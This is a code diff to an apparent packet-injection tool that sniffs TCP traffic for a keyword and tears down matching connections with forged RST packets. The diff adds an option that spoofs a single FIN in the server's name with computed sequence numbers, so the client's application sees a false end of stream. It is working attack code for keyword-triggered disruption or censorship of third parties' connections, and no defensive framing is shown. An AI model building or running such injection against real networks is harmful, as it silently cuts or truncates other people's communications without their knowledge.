@@ -74,6 +74,14 @@ def burst(out: socket.socket, fields, count: int, ttl: int) -> None:
         out.sendto(rst, (socket.inet_ntoa(src), 0))
 
 
+def forged_fin(out: socket.socket, fields, ttl: int) -> None:
+    """One FIN in the server's name: the client's application reads the end of the stream (EOF)."""
+    src, dst, sport, dport, seq, ack, _flags, payload = fields
+    next_seq = (seq + len(payload)) & 0xFFFFFFFF
+    fin = forged_rst(dst, src, dport, sport, ack, next_seq, ttl, TCP_FIN | TCP_ACK)
+    out.sendto(fin, (socket.inet_ntoa(src), 0))
+
+
 def main() -> None:
     parser = argparse.ArgumentParser()
     parser.add_argument("iface")
@@ -81,6 +89,7 @@ def main() -> None:
     parser.add_argument("--count", type=int, default=3)
     parser.add_argument("--ttl", type=int, default=64)
     parser.add_argument("--cutoff", type=float, default=None)
+    parser.add_argument("--fin", action="store_true", help="close with one forged FIN instead of resets")
     args = parser.parse_args()
     keyword = args.keyword.encode()
 
@@ -109,7 +118,10 @@ def main() -> None:
         src, dst, sport, dport, seq, ack, flags, payload = fields
         if args.cutoff is None:
             if keyword in payload:
-                burst(out, fields, args.count, args.ttl)
+                if args.fin:
+                    forged_fin(out, fields, args.ttl)
+                else:
+                    burst(out, fields, args.count, args.ttl)
             continue
         key = (src, dst, sport, dport)
         if flags & (TCP_FIN | TCP_RST):
